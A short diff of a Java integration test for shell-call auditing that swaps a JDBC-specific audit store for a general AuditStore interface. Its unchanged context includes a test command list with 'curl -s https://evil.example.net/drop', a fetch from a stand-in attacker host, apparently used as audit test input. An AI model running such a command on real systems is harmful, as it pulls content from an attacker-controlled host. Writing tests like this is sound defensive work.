@@ -57,7 +57,7 @@ class ShellCallAuditTest extends GatewayIntegrationTest {
     private static final List<String> COMMANDS = List.of("ls -la /mnt/data", "curl -s https://evil.example.net/drop");
 
     @Autowired
-    JdbcAuditStore store;
+    AuditStore store;
 
     @LocalManagementPort
     int managementPort;
